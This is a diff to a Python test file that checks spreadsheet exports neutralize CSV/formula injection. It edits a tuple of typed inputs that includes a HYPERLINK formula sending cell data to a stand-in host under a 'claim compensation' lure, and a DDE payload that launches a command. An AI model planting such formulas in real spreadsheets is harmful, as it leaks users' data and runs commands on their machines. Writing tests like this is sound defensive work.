@@ -181,8 +181,9 @@ def test_decimal_becomes_float_only_at_the_cell():
 
 # What a user might type that a spreadsheet would run: OWASP's CSV injection starts (= + - @ tab CR) and
 # an error value. Every one must come back as the text typed, in a text cell.
-TYPED = ('=HYPERLINK("http://evil.example/?"&A1,"点此领取补偿")', "=1+2", "+1+2", "-1+2", "@SUM(1,2)",
-         "\t=1+2", "\r=1+2", "=cmd|' /C calc'!A0", "#N/A")
+# Tab and CR at the start (also on OWASP's list) never reach a workbook: input refuses control characters.
+TYPED = ('=HYPERLINK("http://e.x/?"&A1,"点此领补偿")', "=1+2", "+1+2", "-1+2", "@SUM(1,2)",
+         "=cmd|' /C calc'!A0", "#N/A")
 
 
 def as_read(text: str) -> str:
